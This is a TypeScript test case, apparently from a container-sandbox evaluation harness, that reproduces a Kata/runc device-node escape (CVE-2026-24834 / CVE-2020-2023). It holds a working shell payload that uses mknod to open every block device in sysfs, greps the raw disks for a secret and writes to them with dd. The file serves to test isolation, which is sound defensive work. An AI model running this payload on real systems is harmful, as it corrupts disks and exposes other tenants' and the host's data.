import { contained, escaped, reachedGuest, type Attack } from '../../attack.ts'
import { LoopDisk } from '../../loop-disk.ts'
import { allowAllDevices } from '../../spec-changes.ts'

/**
 * Kata's guests let a container make the node of the guest's root disk and write it, which changed the image of the next
 * pod. Here every disk that sysfs shows is tried: the guest's own, and one that only the pod's other container was given.
 */
export const attack: Attack = {
  id: 'CVE-2026-24834',
  title: 'mknod of every disk in sight and a write to it (also CVE-2020-2023)',
  family: 'container',
  leak: 'the guest\'s root disk, the data of other containers and of the host',
  bound: 'container',
  control: { weak: 'runc without a device cgroup' },
  async run(site) {
    const disk = new LoopDisk(site, 'disk')
    const pod = await site.pod()
    await pod.start({
      spec: (spec) => {
        spec.linux.devices = [{ path: disk.device, type: 'b', major: disk.major, minor: disk.minor, fileMode: 0o600, uid: 0, gid: 0 }]
        const rules = spec.linux.resources['devices']
        if (Array.isArray(rules)) rules.push({ allow: true, type: 'b', major: disk.major, minor: disk.minor, access: 'rwm' })
      },
    })
    const container = await pod.start({ ...(site.weak ? { spec: allowAllDevices } : {}) })
    const written = `written-by-${site.secret}`
    // In the control only the case's own disk: all others are the machine's.
    const disks = site.weak ? `${disk.major}:${disk.minor}` : '$(ls /sys/dev/block)'
    const { stdout, stderr } = await container.exec(['sh', '-c', `
      for disk in ${disks}; do
        mknod /tmp/disk-$disk b \${disk%:*} \${disk#*:}
        if grep -q -a ${site.secret} /tmp/disk-$disk 2>/dev/null; then echo read $disk; fi
        if echo ${written} | dd of=/tmp/disk-$disk bs=512 seek=8 conv=notrunc,fsync 2>/tmp/error; then echo wrote $disk; else tail -n 1 /tmp/error >&2; fi
      done; ls /sys/dev/block | wc -l`])
    if (disk.contains(written)) return escaped(`the neighbour's disk on the host holds what the container wrote: ${stdout}`)
    if (/read|wrote/.test(stdout)) return reachedGuest(stdout)
    return contained(`none of ${stdout.trim()} disks in sight could be read or written: ${stderr.split('\n')[0]}; the disk on the host is as it was`)
  },
}
